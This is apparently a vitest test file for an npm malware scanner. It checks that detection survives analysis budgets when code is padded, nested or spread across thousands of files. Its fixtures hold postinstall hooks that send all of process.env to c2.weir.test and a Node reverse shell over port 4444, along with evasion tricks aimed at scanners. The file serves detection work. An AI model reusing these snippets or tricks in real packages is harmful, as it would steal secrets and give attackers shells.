import type { AnalysisResult } from '@weir/model';
import { describe, expect, test } from 'vitest';
import { analyzeArtifact } from './analyze.ts';
import { createMemoryView } from './memory-view.ts';
import { createYaraScanner } from './yara/scanner.ts';

const yara = createYaraScanner();
const STEAL = `fetch('https://c2.weir.test', { method: 'POST', body: JSON.stringify(process.env) });\n`;

async function analyze(files: Readonly<Record<string, string>>): Promise<AnalysisResult> {
  await using view = createMemoryView(files);
  return analyzeArtifact(
    view,
    { ecosystem: 'npm', filename: 'x', context: null },
    {
      layout: 'directory',
      artifact: { sha256: '0'.repeat(64), sizeBytes: 0, digests: {} },
      rulesetVersion: 'test',
      now: () => performance.now(),
      yara,
    },
  );
}

function hooked(code: string, more: Readonly<Record<string, string>> = {}): Record<string, string> {
  const manifest = { name: 'x', version: '1.0.0', scripts: { postinstall: 'node a.js' } };
  return { 'package.json': JSON.stringify(manifest), 'a.js': code, ...more };
}

function rulesOf(result: AnalysisResult): string[] {
  return result.findings.map(({ rule, location }) => `${rule} ${location?.file}:${location?.line}`);
}

describe('what a budget left unread is looked at in pieces', () => {
  test('behind constants that cost more than a file may', async () => {
    const costly = Array.from(
      { length: 120 },
      (_, i) =>
        `var c${i} = t.split('').map((c) => String.fromCharCode(c.charCodeAt(0) ^ ${i % 16})).join('');`,
    ).join('\n');
    const code = `const t = 'abcdefghij'.repeat(1000);\n${costly}\n`;
    const hidden = `const all = Object.keys(process['env']).map((k) => k + process.env[k]).join();\nfetch('https://c2.weir.test/?' + all);\n`;

    const result = await analyze(hooked(code + hidden));

    expect(result.judgement).toMatchObject({ verdict: 'malicious', complete: false });
    expect(rulesOf(result)).toContain('env-to-network/environment a.js:123');
  });

  test('behind nesting that no parser takes', async () => {
    const result = await analyze(hooked(`${'['.repeat(6000)}${']'.repeat(6000)};\n${STEAL}`));

    expect(rulesOf(result)).toEqual(['env-to-network/environment a.js:2', 'analysis/nesting a.js:1']);
  });

  test('in the last of more files than are parsed', async () => {
    const files: Record<string, string> = {};
    for (let i = 0; i < 5200; i++) files[`f${i}.js`] = `require('./f${i + 1}');\n`;

    const result = await analyze(hooked(`require('./f0');\n`, { ...files, 'f5200.js': STEAL }));

    expect(result.judgement.verdict).toBe('malicious');
    expect(rulesOf(result)).toContain('env-to-network/environment f5200.js:1');
  });

  test('together with what was read: one file gathers, the unread one hands it on', async () => {
    const padding = `/*${' '.repeat(9_000_000)}*/`;
    const result = await analyze(
      hooked(`${padding}const g = require('./gather');\nrequire('./send')(g());\n`, {
        'gather.js': `module.exports = () => JSON.stringify(process.env);\n`,
        'send.js': `module.exports = (d) => fetch('https://c2.weir.test', { method: 'POST', body: d });\n`,
      }),
    );

    expect(rulesOf(result)).toContain('env-to-network/environment a.js:2');
  });
});

test.skipIf(yara === null)(
  'rules for small files are asked about pieces of large ones that something reaches',
  async () => {
    const shell = `const net = require('net'), cp = require('child_process');\nconst sh = cp.spawn('/bin/sh', []);\nconst c = new net.Socket();\nc.connect(4444, 'c2.weir.test', () => { c.pipe(sh.stdin); sh.stdout.pipe(c); sh.stderr.pipe(c); });\n`;
    const filler = `exports.table = ${JSON.stringify(Array.from({ length: 300_000 }, (_, i) => i))};\n`;
    const alone = await analyze(hooked(shell));
    const padded = await analyze(hooked(`${filler}${shell}`));

    const told = (result: AnalysisResult): string[] =>
      result.findings.filter(({ detector }) => detector === 'yara').map(({ rule }) => rule);
    expect(told(alone)).not.toEqual([]);
    expect(told(padded)).toEqual(expect.arrayContaining(told(alone)));
  },
);
